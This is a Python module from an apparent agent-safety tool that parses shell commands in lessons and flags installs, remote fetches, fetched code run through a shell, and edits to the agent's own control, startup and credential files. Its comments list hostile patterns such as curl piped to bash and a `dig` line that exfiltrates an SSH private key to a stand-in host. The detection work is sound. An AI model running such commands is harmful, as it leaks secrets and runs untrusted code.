"""The risky parts of what a lesson would run, judged by the structure `commands_read` reads.

`parts(text)` returns `kind:name` parts (the kinds of `provenance.risky_parts`) for the runs of a
lesson, with what it found to execute what was fetched (`fetch_runs`, for the safety policy):
- `install:X`: a package or program that is not the project's own — an installer's or package
  runner's package (npm/pnpm/yarn/bun add|install|dlx|exec|x|create, npx/bunx/pnpx, pip/pipx/uv pip/
  uv tool/uvx/`uv run --with X`, poetry/pdm add, conda, cargo install/add, go install/get/run pkg@v,
  gem, bundle add, brew, apt/dnf/yum/apk/pacman/zypper/snap, choco/scoop/winget, nix, composer,
  dotnet tool/add package, deno install, mix archive.install / escript.install);
- `fetch:X`: remote code — `docker|podman run|pull|create IMAGE`, `git clone|submodule add URL`,
  `deno run URL`; `remote:X`: `git remote add|set-url NAME URL`, `git push URL`;
- `host:X`: a registry or index named by option (`--registry`, `--index-url`, `-i`, …);
- `exec:X`: code fetched and run — a fetcher's output piped into a shell or interpreter that reads
  its program from standard input (after unwrapping: `| /usr/bin/env bash`, `| $SHELL`,
  `| busybox sh`, `| xargs bash -c`, `| . /dev/stdin`), a fetch substituted into code
  (`bash -c "$(curl …)"`, `source <(curl …)`), or a downloaded file run later in the lesson
  (`bash f`, `sh f`, `. f`, `source f`, `./f`, `/tmp/f`, `python f`), X the fetched address or file;
- `permission:X`: a change to the agent's or ace's own controls — `.claude/` written, moved or
  removed, `pip uninstall ace-engine`, the shell's startup files or credentials files written,
  `git config --global|--system`, `core.hooksPath`;
- `unplaced:X`: a command whose program or input cannot be placed (`$X` unresolved or `$(…)` in
  program position, unless a literal path follows a query of a place: `$(go env GOPATH)/bin/x`; the
  depth cap, an unterminated quote in code, an unknown word between a fetch's pipe and a shell) — X
  is the command as written, so provenance can still find it in someone else's text, and from there
  it is held. A code span that only names a value is no command (`command_values.names_a_value`): a
  lone variable the lesson does not set (`$XDG_CONFIG_HOME`, `$env:GOPATH`), a place query alone
  (`$(go env GOMODCACHE)`), PowerShell's `$env:X=1`, a workflow's `${{ … }}`.

The project's own are no parts: `npm run X`, `npm test`, `pnpm X`, `yarn X`, `make`, `mix`, `cargo`
build/test/…, `go test|build|vet|run ./…`, `just`, `task`, `./scripts/x.sh`, `pip install -e .` /
`-r requirements.txt`. (`npx X` is a part: whether X is the project's own binary is for
provenance to say — `observe/origins.py` finds it in package.json.)

The words it reads runs by (which programs install or fetch what, which options take a value, the
agent's control files) are the tables of `command_vocab.py`.

Cost: one `commands_read.read` (linear) and a constant per run. Loaded on first use.
"""

from __future__ import annotations

import re

from . import command_vocab as v
from . import commands_read as cr
from .command_values import names_a_value
from .command_vocab import PROGRAMS
from .folding import lines


def _positional(args: list[str], takes_value: frozenset[str]) -> list[str]:
    """The arguments that are not options or option values; everything after `--` is positional."""
    out: list[str] = []
    i = 0
    while i < len(args):
        a = args[i]
        if a == "--":
            return out + args[i + 1:]
        if a.startswith("-") and len(a) > 1:
            i += 2 if a in takes_value else 1
            continue
        out.append(a)
        i += 1
    return out


def _values(args: list[str], options: frozenset[str]) -> list[str]:
    """The values given to `options` (`--with X`, `--with=X`, `-pX` not read)."""
    out = []
    for i, a in enumerate(args):
        if a == "--":
            break
        flag, eq, value = a.partition("=")
        if flag in options:
            if eq:
                out.append(value)
            elif i + 1 < len(args):
                out.append(args[i + 1])
    return out


def _host(value: str) -> str | None:
    value = value.strip().lower()
    m = v.URL.match(value)
    if m:
        return (m.group(1) or m.group(2) or "").strip(".[]") or None
    bare = value.split("/", 1)[0].split(":", 1)[0]
    return bare if re.fullmatch(r"(?:[a-z0-9-]+\.)+[a-z]{2,}|(?:\d{1,3}\.){3}\d{1,3}", bare) else None


def _pkg(value: str) -> str | None:
    """A package argument as the part names it, or None when it is a path, a file or a flag."""
    if not value or v.PATH_LIKE.match(value) or "$" in value:
        return None
    return value


class _Judge:
    def __init__(self, runs: list[cr.Run], text: str) -> None:
        self.runs = runs
        self.text = text
        self.found: list[str] = []
        self.reasons: list[str] = []  # the safety policy's reasons, whoever wrote the lesson
        self.downloads: dict[str, str] = {}  # a file a fetch in the lesson wrote → where it came from
        self.linked: dict[str, str] = {}  # the last part of a URL the lesson names → the URL

    def add(self, kind: str, name: str | None) -> None:
        if name:
            self.found.append(f"{kind}:{' '.join(name.lower().split())}")

    def judge(self) -> list[str]:
        for url in v.URLS.findall(self.text):
            tail = url.rstrip("/.,;").rsplit("/", 1)[-1]
            if tail and "://" not in tail and url.count("/") > 2:
                self.linked.setdefault(tail.split("?")[0], url)
        said_download = v.DOWNLOAD_WORDS.search(self.text) is not None
        for run in self.runs:
            self.run(run, said_download)
        return list(dict.fromkeys(self.found))

    def fetched(self, runs: list[cr.Run], seen: int = 0) -> str | None:
        """What the runs fetch (their address, or the fetcher's name), if any of them (or what feeds
        them) is a fetcher; None otherwise."""
        for run in runs:
            if run.prog in cr.FETCHERS and run.prog not in ("scp", "rsync", "gh") or run.prog in ("base64", "xxd"):
                pos = _positional(run.words, frozenset(("-o", "-O", "--output", "-H", "--header", "-X", "-A", "-e",
                                                        "-u", "-d", "--data", "-w", "-T")))
                return pos[0] if pos and run.prog in cr.FETCHERS else run.prog
            if run.prog == "cat" and any(w.startswith(("/dev/tcp", "/dev/udp")) for w in run.words):
                return run.prog
            if seen < 8:
                inner = self.fetched(run.inputs + run.subs, seen + 1)
                if inner:
                    return inner
        return None

    def run(self, run: cr.Run, said_download: bool) -> None:
        if run.unplaced:
            if names_a_value(run, self.text):  # `$XDG_CONFIG_HOME` alone: a value named, no command
                return
            # An unknown program, or a broken text that holds a pipe or a program worth placing.
            if run.prog or run.inputs or run.depth or "|" in run.source or any(
                    w.rsplit("/", 1)[-1] in PROGRAMS for w in run.source.split()):
                self.add("unplaced", run.source or run.prog)
            return
        prog, words = run.prog, run.words
        for op, target in run.redirs:  # (`bash < <(curl …)`: the target's substitution is in `run.subs`)
            self.path(target, write=op in (">", ">>", ">|", "&>", ">&"))
        self.stdin_code(run)
        if prog in ("dig", "nslookup", "host", "ping", "drill", "getent", "resolvectl") and run.subs:
            if "sends data off the machine" not in self.reasons:  # `dig $(cat ~/.ssh/id_rsa | base32).x.example`
                self.reasons.append("sends data off the machine")
        self.substituted(run)
        self.later(run, said_download)
        for w in words:
            self.path(w, write=prog in v.MODIFY or prog in ("git",))
        if run.xargs and (prog in v.RUNNERS or prog in v.NODE or prog in v.MANAGERS or prog in ("pip", "uv", "cargo")):
            self.add("unplaced", run.source)  # `… | xargs npx`: the package comes from the pipe
        if prog in v.RUNNERS:
            self.runner(prog, words)
        elif prog in v.NODE:
            self.node(prog, words)
        elif prog in ("pip", "pip3", "uv", "python") or prog.startswith("pip"):
            self.python(prog, words)
        elif prog in ("cargo", "go", "dotnet", "deno", "mix"):
            self.toolchain(prog, words)
        elif prog in ("docker", "podman", "nerdctl"):
            pos = _positional(words, v.DOCKER_VALUE)
            if pos[:1] == ["container"] or pos[:1] == ["image"]:
                pos = pos[1:]
            if len(pos) > 1 and pos[0] in ("run", "pull", "create"):
                self.add("fetch", pos[1])
        elif prog == "git":
            self.git(words)
        elif prog in v.MANAGERS:
            self.manager(prog, words)
        elif prog == "ace" and _positional(words, frozenset())[:1] in (["uninstall"], ["disable"]):
            self.add("permission", "ace " + _positional(words, frozenset())[0])
        packaging = prog in v.RUNNERS or prog in v.NODE or prog in v.MANAGERS or prog in v.PIP
        registries = v.REGISTRY | (v.PIP_REGISTRY if prog in v.PIP else frozenset())
        for value in _values(words, registries) if packaging else ():
            host = _host(value)
            if host:
                self.add("host", host)
        if any(w.startswith("ace_disabled=") for w in (x.lower() for x in run.wrappers)):
            self.add("permission", "ace_disabled")

    # -- (c) fetched code run --------------------------------------------------------------------------

    def exec_part(self, run: cr.Run, what: str | None, *, sure: bool = True) -> None:
        """Fetched code run; `sure`: a fetch the lesson itself shows (not only a word for one)."""
        if sure and "fetches and runs code" not in self.reasons:
            self.reasons.append("fetches and runs code")
        self.add("exec", what or run.source)

    def stdin_code(self, run: cr.Run) -> None:
        """A run that reads its program from a pipe: fed by a fetch, fetched code is run."""
        if not run.inputs or not self.reads_code(run):
            if run.inputs and self.fetched(run.inputs) and any(
                    w.lower().rsplit("/", 1)[-1] in cr.SHELLS | cr.INTERPRETERS for w in run.words):
                self.add("unplaced", run.source)  # `| unknown-wrapper sh`: the shell may still run it
            return
        source = self.fetched(run.inputs)
        if source:
            self.exec_part(run, source)
        else:
            self.add("exec", run.inputs[0].source if run.inputs else run.source)

    def reads_code(self, run: cr.Run) -> bool:
        prog, words = run.prog, run.words
        if prog in ("source", ".", "iex", "invoke-expression", "eval"):
            return not words or words[0] in v.STDIN_FILES or prog in ("iex", "invoke-expression")
        if prog not in cr.SHELLS and prog not in cr.INTERPRETERS:
            return False
        if run.xargs:
            return True
        flags = v.CODE_FLAGS.get(prog, ("-c",) if prog in cr.SHELLS else ())
        for k, w in enumerate(words):
            if w in flags or (prog in cr.SHELLS and w.startswith("-") and not w.startswith("--") and "c" in w[1:]):
                return k + 1 >= len(words)  # `-c` without its string: xargs or stdin gives it
            if w == "-s" or w in v.STDIN_FILES:
                return True
            if not w.startswith("-"):
                return False  # a script file: standard input is its data
        return True

    def substituted(self, run: cr.Run) -> None:
        """A fetch substituted into code: the program itself, a shell's `-c` string, `eval`'s or
        `source`'s argument, an interpreter's code."""
        subs = [s for s in run.subs if s.depth > run.depth]
        if not subs:
            return
        source = self.fetched(subs)
        if source and (run.prog in cr.SHELLS | cr.INTERPRETERS | {"eval", "source", ".", "exec", "iex"}):
            self.exec_part(run, source)

    def later(self, run: cr.Run, said_download: bool) -> None:
        """Files a fetch wrote, and a later run of one of them."""
        prog, words = run.prog, run.words
        if prog in ("curl", "wget", "aria2c", "fetch", "xh", "http"):
            for value in _values(words, frozenset(("-o", "-O", "--output", "--output-document", "--out"))):
                self.downloads[value.rsplit("/", 1)[-1]] = value
            for op, file in run.redirs:
                if op in (">", ">>"):
                    self.downloads[file.rsplit("/", 1)[-1]] = file
        if not self.downloads and not self.linked and not said_download:
            return
        target: str | None = None
        if prog in cr.SHELLS or prog in cr.INTERPRETERS or prog in ("source", "."):
            pos = [w for w in words if not w.startswith("-")]
            target = pos[0] if pos else None
        elif prog.startswith(("./", "../")) or prog.endswith((".sh", ".bash", ".py", ".pl", ".rb")) or \
                prog in self.downloads:  # `/tmp/payload`, `"$(pwd)"/payload`: the reader keeps the name
            target = prog
        if not target:
            return
        name = target.rsplit("/", 1)[-1]
        # Where a download lands: the current directory or /tmp (`scripts/check.sh` is the project's own,
        # even when the lesson links to it on GitHub).
        here = "/" not in target.removeprefix("./") or target.startswith(("/tmp/", "~/downloads"))
        if name in self.downloads:
            self.exec_part(run, name)
        elif name in self.linked and here:
            self.exec_part(run, name)  # "download https://…/h.sh, then run `bash h.sh`"
        elif said_download and here and "." in name:
            self.exec_part(run, name, sure=False)  # "download the installer …, then run `bash h.sh`"

    # -- (d) the agent's own controls --------------------------------------------------------------------

    def path(self, word: str, write: bool) -> None:
        low = word.lower().rstrip("/")
        if v.CLAUDE.search(low) and write:
            self.add("permission", ".claude")
        elif v.STARTUP.search(low) and write:
            self.add("permission", low.rsplit("/", 1)[-1])
        elif v.CREDENTIALS.search(low):
            self.add("permission", low)
        if "core.hookspath" in low:
            self.add("permission", "core.hookspath")

    # -- (a) packages ------------------------------------------------------------------------------------

    def runner(self, prog: str, words: list[str]) -> None:
        for value in _values(words, frozenset(("-p", "--package", "--from", "--with", "--spec"))):
            self.add("install", _pkg(value))
        if prog == "pipx":
            pos = _positional(words, v.PIP_VALUE)
            if pos and pos[0] in ("install", "run", "inject", "upgrade", "reinstall"):
                for name in pos[1:] if pos[0] != "run" else pos[1:2]:
                    self.add("install", _pkg(name))
            return
        pos = _positional(words, v.NODE_VALUE | v.PIP_VALUE)
        if pos:
            self.add("install", _pkg(pos[0]))

    def node(self, prog: str, words: list[str]) -> None:
        pos = _positional(words, v.NODE_VALUE)
        if pos[:1] == ["global"]:
            pos = pos[1:]
        if not pos:
            return
        sub = pos[0]
        if sub in v.NODE_INSTALL:
            for name in pos[1:]:
                self.add("install", _pkg(name))
        elif sub in v.NODE_RUN:
            for value in _values(words, frozenset(("-p", "--package"))):
                self.add("install", _pkg(value))
            rest = pos[1:]
            if rest and not (sub == "init" and rest[0].startswith("-")):
                self.add("install", _pkg(rest[0]))

    def python(self, prog: str, words: list[str]) -> None:
        if prog == "python":  # `python -m pip …`
            if words[:2] != ["-m", "pip"]:
                return
            words = words[2:]
        pos = _positional(words, v.PIP_VALUE)
        tool = False
        if prog == "uv":
            tool = pos[:1] == ["tool"]
            if pos[:1] == ["pip"] or tool:
                pos = pos[1:]
            for value in _values(words, frozenset(("--with", "--from"))):
                self.add("install", _pkg(value))
            if pos[:1] == ["run"] and not tool:
                return  # `uv run pytest`: the project's environment (only `--with X` adds a package)
        if pos and pos[0] in ("install", "add", "download", "run", "x"):
            for name in pos[1:]:
                self.add("install", _pkg(name))
        if pos and pos[0] in ("uninstall", "remove") and any(p.replace("_", "-") in ("ace-engine", "ace")
                                                             for p in pos[1:]):
            self.add("permission", "ace-engine")

    def toolchain(self, prog: str, words: list[str]) -> None:
        pos = _positional(words, frozenset(("--git", "--path", "--root", "--version", "--branch", "--tag", "-p",
                                            "--package", "--features", "-F", "--target", "--manifest-path", "-o",
                                            "-C", "--bin")))
        sub, rest = (pos[0], pos[1:]) if pos else ("", [])
        git = _values(words, frozenset(("--git",)))
        if prog == "cargo" and sub in ("install", "binstall", "add"):
            for name in rest:
                self.add("install", _pkg(name))
            for url in git:
                self.add("fetch", url)
        elif prog == "go" and sub in ("install", "get") or (prog == "go" and sub == "run" and rest and
                                                              "@" in rest[0] and not v.GO_LOCAL.match(rest[0])):
            for name in rest[:1] if sub == "run" else rest:
                if not v.GO_LOCAL.match(name):
                    self.add("install", name.split("@", 1)[0])
        elif prog == "dotnet" and (sub == "tool" and rest[:1] == ["install"] or
                                   sub == "add" and rest[1:2] == ["package"]):
            self.add("install", _pkg(rest[-1]) if rest else None)
        elif prog == "deno" and sub in ("run", "install", "x") and rest:
            target = next((r for r in rest if "://" in r or r.startswith(("npm:", "jsr:"))), None)
            if target:
                self.add("fetch" if "://" in target else "install", target)
        elif prog == "mix" and sub in ("archive.install", "escript.install") and rest:
            self.add("install", rest[-1])

    def git(self, words: list[str]) -> None:
        pos = _positional(words, v.GIT_VALUE)
        for k, w in enumerate(words):
            if w in ("-c", "--config-env") and k + 1 < len(words) and "hookspath" in words[k + 1].lower():
                self.add("permission", "core.hookspath")
        if not pos:
            return
        sub, rest = pos[0], pos[1:]
        if sub == "clone" and rest:
            self.add("fetch", rest[0])
        elif sub == "submodule" and rest[:1] == ["add"] and len(rest) > 1:
            self.add("fetch", rest[1])
        elif sub == "remote" and rest[:1] in (["add"], ["set-url"]) and len(rest) > 2:
            self.add("remote", rest[2])
        elif sub in ("push", "fetch", "pull") and rest and (v.URL.match(rest[0]) or rest[0].startswith("/")):
            self.add("remote", rest[0])
        elif sub == "config" and any(w in ("--global", "--system") for w in words):
            self.add("permission", "git config " + next(w for w in words if w in ("--global", "--system")))

    def manager(self, prog: str, words: list[str]) -> None:
        verbs = v.MANAGERS[prog]
        pos = _positional(words, frozenset(("-n", "--name", "-c", "--channel", "-p", "--prefix", "--version")))
        if prog == "pacman":
            if any(w.lower().startswith("-s") and "s" in w[1:].lower() for w in words if w.startswith("-")):
                for name in pos:
                    self.add("install", _pkg(name))
            return
        if prog in v.ALWAYS:
            for name in pos:
                self.add("install", _pkg(name))
            return
        if prog == "nix-env":
            if any(w in verbs for w in words):
                for name in pos:
                    self.add("install", _pkg(name))
            return
        if pos and pos[0] in verbs:
            for name in pos[1:]:
                self.add("install", _pkg(name))


_read: dict[str, tuple[list[str], list[str]]] = {}


def lesson(content: str) -> tuple[list[str], list[str]]:
    """`parts` of a lesson as written (folded here: `folding.lines`). The policy and the provenance
    rule both ask about the lesson they screen: the last few answers are kept."""
    if content not in _read:
        if len(_read) >= 64:
            _read.clear()
        _read[content] = parts(lines(content))
    found, reasons = _read[content]
    return list(found), list(reasons)


def parts(text: str) -> tuple[list[str], list[str]]:
    """(the risky parts of the commands in `text`, the safety policy's reasons among them: "fetches
    and runs code", "sends data off the machine"). `text` is the lesson folded character by character
    (`folding.lines`)."""
    runs = cr.read(text, PROGRAMS)
    judge = _Judge(runs, text)
    return judge.judge(), judge.reasons
